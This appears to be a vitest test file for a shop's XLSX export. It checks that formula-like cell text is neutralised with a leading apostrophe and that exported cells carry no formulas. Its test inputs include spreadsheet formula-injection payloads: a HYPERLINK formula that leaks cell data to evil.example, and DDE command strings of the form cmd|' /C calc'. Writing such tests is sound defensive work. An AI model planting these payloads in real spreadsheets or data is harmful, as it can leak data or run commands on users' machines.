import * as XLSX from "@e965/xlsx";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { MAX_CELL_TEXT, neutralizeFormula, safeRow } from "../../server/files/cells.js";
import { backends, startTestApp, USERS, type TestApp } from "../support/test-app.js";

describe("formula-safe cells", () => {
  it("prefixes an apostrophe to text a spreadsheet could run as a formula", () => {
    for (const text of [
      '=HYPERLINK("http://evil.example","Click")',
      "+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(A1:A9)",
      "\tTabbed",
      "\rReturn",
      "\nLine",
      "\uFF1D1+1",
      "\uFF0B1",
      "\uFF0D1",
      "\uFF20SUM(A1)",
    ])
      expect(neutralizeFormula(text)).toBe(`'${text}`);
  });

  it("leaves other text alone, including signs later in the text and an existing apostrophe", () => {
    for (const text of [
      "GLOW-MINI",
      "Luna 4 = best",
      " =1+1",
      "'=already",
      "",
      "100",
      "a@b.example",
    ])
      expect(neutralizeFormula(text)).toBe(text);
  });

  it("cuts text to the 32,767 characters a cell holds", () => {
    expect(neutralizeFormula("x".repeat(40_000))).toHaveLength(MAX_CELL_TEXT);
    expect(neutralizeFormula("=" + "x".repeat(40_000))).toMatch(/^'=x+$/);
  });

  it("keeps numbers as numbers, negative ones too, and empties NaN and infinities", () => {
    expect(safeRow(["=1", -12.5, 0, null, Number.NaN, Infinity, "ok"])).toEqual([
      "'=1",
      -12.5,
      0,
      null,
      null,
      null,
      "ok",
    ]);
  });
});

describe.each(backends)("exports through the real endpoints on %s", (backend) => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp(backend);
  });
  afterAll(async () => t?.close());

  async function download(url: string) {
    const res = await t.app.inject({
      method: "GET",
      url,
      headers: { authorization: `Bearer ${await t.token(USERS.spaAdmin)}` },
    });
    expect(res.statusCode).toBe(200);
    return res.rawPayload;
  }

  /** Every cell of the first sheet, read back with formulas on, keyed by address. */
  function cells(file: Buffer): Record<string, XLSX.CellObject> {
    const book = XLSX.read(file, { type: "buffer", cellFormula: true });
    const sheet = book.Sheets[book.SheetNames[0]!]!;
    return Object.fromEntries(Object.entries(sheet).filter(([k]) => !k.startsWith("!"))) as Record<
      string,
      XLSX.CellObject
    >;
  }

  it("writes a =HYPERLINK(...) EAN and product name as text cells, never formulas", async () => {
    // files-xlsx.test.ts puts formula-like names through the contract price export; here the
    // EAN (a text column of numbers) and an over-long name go through it too.
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
    const variant = await t.db
      .selectFrom("product_variants")
      .select(["code", "ean", "product_code"])
      .where("product_code", "=", "GLOW-MINI")
      .orderBy("position")
      .orderBy("code")
      .executeTakeFirstOrThrow();
    const product = await t.db
      .selectFrom("products")
      .select("name")
      .where("code", "=", "GLOW-MINI")
      .executeTakeFirstOrThrow();
    try {
      await t.db
        .updateTable("product_variants")
        .set({ ean: "@SUM(1+1)*cmd|' /C calc'!A0" })
        .where("code", "=", variant.code)
        .execute();
      await t.db
        .updateTable("products")
        .set({ name: hyperlink })
        .where("code", "=", "GLOW-MINI")
        .execute();
      let all = cells(await download("/shop/export/xlsx/contract-price"));
      const row = Object.entries(all).find(([, c]) => String(c.v).startsWith(`'${hyperlink}`))?.[0];
      expect(row, "the product's row").toBeDefined();
      const n = row!.replace(/^[A-Z]+/, "");
      for (const col of ["B", "E"]) {
        expect(all[`${col}${n}`]?.t).toBe("s");
        expect(all[`${col}${n}`]?.f).toBeUndefined();
      }
      expect(all[`E${n}`]?.v).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
      expect(Object.values(all).filter((c) => c.f !== undefined)).toEqual([]);

      // A name past a cell's 32,767 characters is cut, not a failed export.
      await t.db
        .updateTable("products")
        .set({ name: "=" + "x".repeat(40_000) })
        .where("code", "=", "GLOW-MINI")
        .execute();
      all = cells(await download("/shop/export/xlsx/contract-price"));
      expect(Object.values(all).some((c) => c.v === `'=${"x".repeat(32_765)}`)).toBe(true);
    } finally {
      await t.db
        .updateTable("product_variants")
        .set({ ean: variant.ean })
        .where("code", "=", variant.code)
        .execute();
      await t.db
        .updateTable("products")
        .set({ name: product.name })
        .where("code", "=", "GLOW-MINI")
        .execute();
    }
  });

  it("writes the quick-order sample's texts as shared-string cells without formulas", async () => {
    const all = cells(await download("/shop/export/xlsx/quick-order"));
    expect(all.A1).toMatchObject({ t: "s", v: "product_variant_code" });
    expect(Object.values(all).filter((c) => c.f !== undefined)).toEqual([]);
    for (const cell of Object.values(all)) expect(["s", "n"]).toContain(cell.t);
  });
});
